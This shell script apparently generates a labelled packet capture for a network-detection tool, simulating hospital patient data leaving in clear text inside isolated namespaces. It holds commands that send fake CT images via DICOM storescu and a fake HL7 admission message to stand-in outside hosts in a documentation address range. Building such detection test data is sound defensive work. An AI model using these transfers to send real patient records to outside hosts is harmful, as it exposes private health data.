#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# attack-dicom-external: patient data leaving the hospital in clear: a modality sends images
# with DICOM to a host outside the local networks, and the HIS sends an HL7 message to another
# one. Real dcmtk and python3-hl7 peers; the outside hosts are in the documentation range
# 198.51.100.0/24, but only inside this script's own namespaces, behind a router namespace.
# Seen from the hospital switch's mirror port (so each packet is seen once, between the inside
# host and the router's MAC).
#
#   CT01 10.77.48.10 ----\                                       /-- 198.51.100.20:104 storescp,
#   HIS  10.77.48.20 ----- switch -- ROUTER 10.77.48.1 | 198.51.100.1   AE CLOUDPACS
#                                    (ip_forward)                 \-- 198.51.100.30:2575 MLLP
#                                                                      receiver (mllp-ack.py)
# (the two outside addresses are on one namespace, EXT, joined to the router by a veth pair)
#
# Captured (full snaplen), in this order:
#   CT01: echoscu -aet CT01 -aec CLOUDPACS 198.51.100.20 104 (C-ECHO)
#   CT01: storescu -aet CT01 -aec CLOUDPACS: C-STORE of the 3 fake CT images of
#         dicom-objects.py (TEST^ALICE x2, TEST^BOB) in one association
#   HIS:  mllp_send to 198.51.100.30:2575: ADT^A01 (TEST^ALICE) from HIS^HOSPITAL, ACKed
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/pair.sh"
. "$(dirname "$0")/lan.sh"
cap_need_root
out=$(cap_outdir attack-dicom-external)
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"; cap_cleanup' EXIT

cap_lan dext 48
rtr=iaso-cap-dext-rtr-$$
ct=iaso-cap-dext-ct-$$
his=iaso-cap-dext-his-$$
ext=iaso-cap-dext-ext-$$
cap_lan_host "$rtr" 01 10.77.48.1/24
cap_lan_host "$ct" 10 10.77.48.10/24
cap_lan_host "$his" 20 10.77.48.20/24
cap_lan_static
cap_lan_span
cap_lan_route "$ct" 10.77.48.1
cap_lan_route "$his" 10.77.48.1
# The outside: EXT's eth0 and the router's eth1, one veth pair, static neighbours both ways.
cap_ns "$ext"
cap_pair "$rtr" eth1 02:77:48:00:01:01 "$ext" eth0 02:77:48:00:01:02
cap_no_gso "$rtr" eth1
cap_no_gso "$ext" eth0
ip -n "$rtr" addr add 198.51.100.1/24 dev eth1
ip -n "$ext" addr add 198.51.100.20/24 dev eth0
ip -n "$ext" addr add 198.51.100.30/24 dev eth0
ip -n "$ext" route add default via 198.51.100.1 dev eth0
ip -n "$ext" neigh replace 198.51.100.1 lladdr 02:77:48:00:01:01 dev eth0 nud permanent
ip -n "$rtr" neigh replace 198.51.100.20 lladdr 02:77:48:00:01:02 dev eth1 nud permanent
ip -n "$rtr" neigh replace 198.51.100.30 lladdr 02:77:48:00:01:02 dev eth1 nud permanent
cap_in "$rtr" sysctl -q -w net.ipv4.ip_forward=1

mkdir -p "$tmp/obj" "$tmp/recv"
$PY "$(dirname "$0")/dicom-objects.py" "$tmp/obj"
for f in "$tmp"/obj/*.dump; do
    dump2dcm +te --line 8192 "$f" "${f%.dump}.dcm"
done
cat >"$tmp/adt.hl7" <<'HL7'
MSH|^~\&|HIS|HOSPITAL|CLOUDAPP|VENDOR|20240115130000||ADT^A01^ADT_A01|HIS00101|P|2.5.1
EVN|A01|20240115130000
PID|1||PID-0001^^^HOSPITAL^MR||TEST^ALICE^MARIE||19700101|F|||12 Test Lane^^Springfield^IL^62701||555-0101
PV1|1|I|WARD1^101^A||||DOC1^REFERRING^DOC
HL7

# storescp listens on every address of EXT (it has no option to bind one); only .20 is used.
# -dhl: no reverse lookup of the peer (there is no name server in these namespaces).
cap_bg "$ext" storescp -dhl -aet CLOUDPACS -od "$tmp/recv" 104
cap_bg "$ext" "$PY" "$(dirname "$0")/mllp-ack.py" 198.51.100.30 2575 1
receiver=$CAP_LAST
cap_wait_port "$ext" 104
cap_wait_port "$ext" 2575

cap_start "$CAP_LAN_SENSOR" "$out/input.pcap" -i eth0 -s 0 -B 16384 tcp

cap_in "$ct" echoscu -aet CT01 -aec CLOUDPACS 198.51.100.20 104
cap_in "$ct" storescu -aet CT01 -aec CLOUDPACS 198.51.100.20 104 "$tmp"/obj/obj1.dcm \
    "$tmp"/obj/obj2.dcm "$tmp"/obj/obj3.dcm
cap_in "$his" mllp_send --loose -f "$tmp/adt.hl7" -p 2575 198.51.100.30 >/dev/null
wait "$receiver"

n_recv=$(ls "$tmp/recv" | wc -l)
cap_stop
if [ "$n_recv" -ne 3 ]; then
    echo "$0: the outside storescp received $n_recv objects, 3 expected" >&2
    exit 1
fi
# HOW: how it was made and tshark's reference counts (how.py).
$PY "$(dirname "$0")/how.py" "$0" "$out" tcp,dicom,hl7,outside dcmtk python3-hl7
echo "$0: wrote $out/input.pcap and $out/HOW" >&2
